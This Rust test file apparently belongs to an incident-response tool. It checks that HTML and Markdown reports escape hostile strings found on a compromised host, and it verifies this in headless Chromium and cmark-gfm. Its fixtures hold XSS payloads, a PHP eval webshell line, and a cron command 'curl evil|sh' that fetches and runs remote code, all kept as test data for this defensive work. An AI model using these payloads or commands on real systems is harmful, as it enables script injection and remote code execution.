#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]
//! `breachkit report`: a case with hostile host strings rendered as HTML and
//! Markdown; the HTML is loaded in a real headless Chromium (Debian's `chromium`,
//! installed when missing) and the Markdown rendered by a real GFM renderer
//! (Debian's `cmark-gfm`, with raw HTML allowed), and neither may turn a host
//! string into markup.

use breachkit_case::{ActionState, BundleRecord, Case, NewAction, RunInfo};
use breachkit_finding::{Finding, Report, Severity, Step};
use breachkit_gather::report::{Format, Remaining, ReportData, render};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

const SCRIPT_PATH: &str = "/var/www/html/<script>alert(1)</script>.php";
const IMG_PATH: &str = "/var/www/html/\"><img src=x onerror=alert(2)>.php";
const HOSTILE_EVIDENCE: &str = "GET /x.php?c=id|sh `id` \u{1b}[2J\u{1b}]8;;http://evil.example/\u{7} [click](http://evil.example) <b>bold</b> &amp; **strong** a\\|b";
const HOSTILE_HOST: &str = "web1<script>alert(3)</script>";

fn finding(rule: &str, step: Step, severity: Severity, title: &str) -> Finding {
    Finding {
        rule: rule.into(),
        step,
        severity,
        title: title.into(),
        explanation: "Explanation for a tired admin.".into(),
        path: None,
        line: None,
        pid: None,
        time: None,
        evidence: None,
        mitre: Some("T1505.003".into()),
        next_step: Some("Look at it.".into()),
    }
}

fn findings() -> Vec<Finding> {
    vec![
        finding("scan.webshell", Step::Aware, Severity::Critical, "Webshell")
            .path(SCRIPT_PATH)
            .line(3)
            .evidence("<?php eval($_POST['x']); ?>")
            .unix_time(1_714_990_000),
        finding(
            "web.shell-command",
            Step::Aware,
            Severity::High,
            "Webshell command",
        )
        .path(IMG_PATH)
        .evidence(HOSTILE_EVIDENCE)
        .unix_time(1_714_993_600),
        finding(
            "cron.suspicious-job",
            Step::Aware,
            Severity::High,
            "Cron job fetches code",
        )
        .path("/var/spool/cron/crontabs/www-data")
        .pid(4242)
        .evidence("# [x](javascript:alert(4)) `curl evil|sh`")
        .unix_time(1_715_000_000),
        finding(
            "mail.outbound-spike",
            Step::Aware,
            Severity::Medium,
            "Outbound mail spike",
        )
        .path("/var/log/mail.log")
        .evidence("| table | break |\n# heading\n<img src=x onerror=alert(5)>")
        .unix_time(1_715_100_000),
        finding(
            "auth.ssh-brute-force",
            Step::Aware,
            Severity::Medium,
            "SSH brute force",
        )
        .path("/var/log/auth.log")
        .unix_time(1_714_980_000),
        finding(
            "packages.changed-conffile",
            Step::Gather,
            Severity::Info,
            "Changed conffile",
        )
        .path("/etc/nginx/nginx.conf"),
    ]
}

fn info(command: &str, hostname: &str) -> RunInfo {
    RunInfo {
        command: command.into(),
        root: "/mnt/<i>image</i>".into(),
        hostname: hostname.into(),
        version: "0.1.0".into(),
        started_at: "2024-05-08T10:00:00Z".into(),
        finished_at: "2024-05-08T10:02:00Z".into(),
        counts: BTreeMap::new(),
        judges: true,
    }
}

/// A case with a compromised run, actions (one in force, one undone), a bundle and
/// two backups (one recorded, one not).
fn hostile_case(dir: &Path) -> Case {
    let mut case = Case::open(dir).unwrap();
    let report = Report {
        findings: findings(),
        ..Report::default()
    };
    case.record_run(&info("check --root /mnt/<b>img</b>", HOSTILE_HOST), &report)
        .unwrap();
    let id = case
        .record_action(&NewAction {
            batch: "isolate-host",
            kind: "nft-table",
            target: "inet breachkit_quarantine",
            undo: "{}",
            data: None,
        })
        .unwrap();
    case.set_action_state(id, ActionState::Applied, None)
        .unwrap();
    let id = case
        .record_action(&NewAction {
            batch: "maintenance",
            kind: "file",
            target: "/etc/nginx/sites-enabled/<svg onload=alert(6)>",
            undo: "{}",
            data: None,
        })
        .unwrap();
    case.set_action_state(id, ActionState::Undone, None)
        .unwrap();
    case.record_bundle(&BundleRecord {
        bundle: "/cases/x/bundle-1|`x`".into(),
        manifest_sha256: "ab".repeat(32),
        examiner: "ann <img src=x onerror=alert(7)>".into(),
        complete: true,
        created_at: "2024-05-08T11:00:00Z".into(),
    })
    .unwrap();
    let evidence = dir.join("evidence");
    std::fs::create_dir_all(&evidence).unwrap();
    std::fs::write(evidence.join("backup-1.tar.zst"), b"x").unwrap();
    std::fs::write(evidence.join("backup-2.tar.zst"), b"y").unwrap();
    case.record_backup(
        "backup-1.tar.zst",
        "backup-1.manifest.jsonl",
        &"cd".repeat(32),
    )
    .unwrap();
    case
}

/// Every tag in serialised HTML (text holds `<` only as `&lt;`), lowercased.
fn tags(html: &str) -> Vec<String> {
    html.split('<')
        .skip(1)
        .map(|t| t.split('>').next().unwrap_or("").to_ascii_lowercase())
        .collect()
}

/// Panics when a tag is one of `forbidden` or carries an event handler or a
/// `javascript:` URL, or when a raw escape character is left.
fn assert_no_markup(html: &str, forbidden: &[&str], what: &str) {
    for tag in tags(html) {
        let name = tag.split_whitespace().next().unwrap_or("");
        assert!(!forbidden.contains(&name), "{what}: element <{tag}>");
        assert!(
            !tag.contains("onerror") && !tag.contains("onload") && !tag.contains("javascript:"),
            "{what}: <{tag}>"
        );
    }
    assert!(!html.contains('\u{1b}'), "{what}: raw escape character");
}

/// Elements no host string may become in the HTML report (the report's own markup
/// uses none of them).
const NOT_IN_HTML: &[&str] = &["script", "img", "iframe", "a", "b", "i"];

#[test]
fn html_report_shows_hostile_strings_as_text() {
    let t = tempfile::tempdir().unwrap();
    let case = hostile_case(&t.path().join("case"));
    let html = render(&case, Format::Html).unwrap();
    assert!(html.contains("Verdict: COMPROMISED"), "{html}");
    for f in findings() {
        assert!(html.contains(&f.rule), "{} missing", f.rule);
    }
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(html.contains("&quot;&gt;&lt;img src=x onerror=alert(2)&gt;"));
    assert!(html.contains("web1&lt;script&gt;alert(3)&lt;/script&gt;"));
    assert!(
        html.contains("\\e[2J"),
        "terminal escapes shown, not acted on"
    );
    assert!(
        html.contains("<svg class=\"timeline\""),
        "the timeline chart"
    );
    assert!(html.contains("@media print"));
    assert!(!html.contains("http-equiv=\"refresh\""));
    assert!(
        !html.contains(" src=\"") && !html.contains(" href=\""),
        "no external asset"
    );
    // Only the report's own elements, whatever the host strings held.
    assert_no_markup(&html, NOT_IN_HTML, "report.html");
    // Manifest hashes of the bundle and the recorded backup; the other is flagged.
    assert!(html.contains(&"ab".repeat(32)) && html.contains(&"cd".repeat(32)));
    assert!(html.contains("backup-2.tar.zst") && html.contains("not recorded in the case"));
}

#[test]
fn markdown_report_neutralises_markup_in_a_real_gfm_renderer() {
    let t = tempfile::tempdir().unwrap();
    let case = hostile_case(&t.path().join("case"));
    let md = render(&case, Format::Markdown).unwrap();
    assert!(!md.contains('\u{1b}'), "{md}");
    for (i, _) in md.match_indices('<') {
        assert_eq!(&md[i - 1..i], "\\", "every < is escaped: {}", &md[i - 1..]);
    }
    for line in md.lines().filter(|l| l.starts_with('|')) {
        assert!(line.ends_with(" |"), "a row is one whole line: {line}");
    }
    let rendered = gfm(&md, t.path());
    // The Markdown writer makes no link, image, code span or emphasis of its own.
    assert_no_markup(
        &rendered,
        &[
            "script", "img", "iframe", "a", "b", "i", "em", "code", "del",
        ],
        "markdown rendered by cmark-gfm",
    );
    let headings = rendered.matches("<h1>").count();
    assert_eq!(
        headings, 1,
        "a host string's `#` made no heading:\n{rendered}"
    );
    assert!(rendered.contains("Verdict: COMPROMISED"));
    for f in findings() {
        assert!(rendered.contains(&f.rule), "{} missing", f.rule);
    }
    assert!(
        rendered.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{rendered}"
    );
    assert!(
        rendered.contains("[click](http://evil.example)"),
        "link text kept as text"
    );
    assert!(
        rendered.contains("a\\|b"),
        "a backslash before a pipe survives: {rendered}"
    );
    // Every table row has as many cells as its header: no `|` split a cell.
    for table in rendered.split("<table>").skip(1) {
        let table = table.split("</table>").next().unwrap();
        let cols = table.matches("</th>").count();
        for row in table
            .split("<tbody>")
            .nth(1)
            .unwrap_or("")
            .split("<tr>")
            .skip(1)
        {
            assert_eq!(row.matches("</td>").count(), cols, "row {row}");
        }
    }
    assert!(rendered.contains("/cases/x/bundle-1|`x`"), "{rendered}");
}

#[test]
fn what_remains_is_derived_from_the_case() {
    let t = tempfile::tempdir().unwrap();
    let case = hostile_case(&t.path().join("case"));
    let data = ReportData::from_case(&case).unwrap();
    let r = &data.remaining;
    assert!(
        r.iter()
            .any(|x| matches!(x, Remaining::SevereFindings { count: 3, .. })),
        "{r:?}"
    );
    assert!(
        r.iter().any(
            |x| matches!(x, Remaining::InForce { batch, count: 1, .. } if batch == "isolate-host")
        ),
        "{r:?}"
    );
    assert!(
        !r.iter()
            .any(|x| matches!(x, Remaining::InForce { batch, .. } if batch == "maintenance")),
        "undone changes are not in force: {r:?}"
    );
    assert!(r.contains(&Remaining::UnrecordedBackup {
        archive: "backup-2.tar.zst".into()
    }));
    assert!(r.contains(&Remaining::NoCredentialRotation));
    assert!(!r.contains(&Remaining::NoBundle) && !r.contains(&Remaining::NoBackup));
    assert_eq!(data.untimed_findings, 1);
    assert_eq!(data.count_at_or_above(Severity::High), 3);

    let empty = Case::open(&t.path().join("empty")).unwrap();
    let data = ReportData::from_case(&empty).unwrap();
    assert_eq!(
        data.remaining,
        vec![
            Remaining::NoJudgedRun,
            Remaining::NoBundle,
            Remaining::NoBackup
        ]
    );
    let html = data.render(Format::Html).unwrap();
    assert!(html.contains("Verdict: none"), "{html}");
    let md = gfm(&data.render(Format::Markdown).unwrap(), t.path());
    assert!(md.contains("Verdict: none"), "{md}");
}

#[test]
fn an_incomplete_run_says_what_failed() {
    let t = tempfile::tempdir().unwrap();
    let mut case = Case::open(t.path()).unwrap();
    let report = Report {
        findings: findings().into_iter().take(1).collect(),
        failed: vec!["check <files>".into()],
        ..Report::default()
    };
    case.record_run(&info("check", "web1"), &report).unwrap();
    let html = render(&case, Format::Html).unwrap();
    assert!(html.contains("Verdict: INCOMPLETE"), "{html}");
    assert!(html.contains("check &lt;files&gt;"));
    assert!(html.contains("What the findings alone say: compromised"));
    let md = gfm(&render(&case, Format::Markdown).unwrap(), t.path());
    assert!(
        md.contains("Verdict: INCOMPLETE") && md.contains("check &lt;files&gt;"),
        "{md}"
    );
}

#[test]
fn chromium_renders_the_html_report_without_hostile_markup() {
    let t = tempfile::tempdir().unwrap();
    let case = hostile_case(&t.path().join("case"));
    let html = render(&case, Format::Html).unwrap();
    let file = t.path().join("report.html");
    std::fs::write(&file, &html).unwrap();
    let chromium = installed("chromium", "chromium");
    let profile = t.path().join("profile");
    let url = format!("file://{}", file.display());
    let run = |extra: &[String]| {
        let out = Command::new("timeout")
            .arg("180")
            .arg(&chromium)
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--no-first-run",
            ])
            .arg(format!("--user-data-dir={}", profile.display()))
            .args(extra)
            .arg(&url)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "chromium failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap()
    };
    let dom = run(&["--dump-dom".to_string()]);
    assert!(dom.contains("<svg"), "the page rendered: {dom}");
    assert_no_markup(&dom, NOT_IN_HTML, "the DOM chromium rendered");
    assert!(dom.contains("Verdict: COMPROMISED"));
    for f in findings() {
        assert!(dom.contains(&f.rule), "{} missing from the DOM", f.rule);
    }
    assert!(dom.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(
        dom.contains("onerror=alert(2)&gt;"),
        "the hostile path is text"
    );

    let png = t.path().join("report.png");
    run(&[
        format!("--screenshot={}", png.display()),
        "--window-size=1280,2000".to_string(),
    ]);
    let bytes = std::fs::read(&png).expect("chromium wrote the screenshot");
    assert!(bytes.starts_with(b"\x89PNG\r\n\x1a\n"), "a PNG");
    assert!(bytes.len() > 20_000, "a real page, {} bytes", bytes.len());
}

/// The Markdown rendered by cmark-gfm with GitHub's table and autolink extensions,
/// raw HTML allowed (`--unsafe`): only the escaping can keep host strings inert.
fn gfm(md: &str, dir: &Path) -> String {
    let cmark = installed("cmark-gfm", "cmark-gfm");
    let file = dir.join("report.md");
    std::fs::write(&file, md).unwrap();
    let out = Command::new(cmark)
        .args([
            "--unsafe",
            "-e",
            "table",
            "-e",
            "autolink",
            "-e",
            "strikethrough",
        ])
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// The path of `program`, installing Debian's `package` when it is missing; a test
/// never skips because a component is absent.
fn installed(program: &str, package: &str) -> PathBuf {
    let find = || {
        let out = Command::new("sh")
            .args(["-c", &format!("command -v {program}")])
            .output()
            .ok()?;
        let path = String::from_utf8(out.stdout).ok()?;
        let path = path.trim();
        (!path.is_empty()).then(|| PathBuf::from(path))
    };
    if let Some(p) = find() {
        return p;
    }
    let apt = |args: &[&str]| {
        Command::new("apt-get")
            .args(args)
            .env("DEBIAN_FRONTEND", "noninteractive")
            .status()
            .map(|s| s.success())
            .unwrap_or(false)
    };
    if !apt(&["install", "-y", package]) {
        apt(&["update"]);
        apt(&["install", "-y", package]);
    }
    find().unwrap_or_else(|| {
        panic!("{program} is needed by this test: `apt-get install {package}` did not install it (run as root with Debian's package lists)")
    })
}
